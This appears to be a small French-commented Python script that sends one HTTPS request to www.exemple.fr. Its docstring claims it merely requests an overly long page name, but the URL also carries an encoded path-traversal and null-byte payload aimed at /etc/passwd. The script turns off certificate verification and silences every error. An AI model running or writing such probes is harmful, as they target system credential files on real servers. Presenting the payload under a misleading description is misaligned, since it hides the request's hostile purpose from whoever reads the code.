"""Demande une page dont le nom ne tient dans aucun dossier."""

import contextlib
import ssl
import urllib.request

with contextlib.suppress(OSError):
    urllib.request.urlopen(
        "https://www.exemple.fr/" + "x" * 2000 + "/..%2F..%2Fetc%2Fpasswd%00",
        context=ssl._create_unverified_context(),
    )
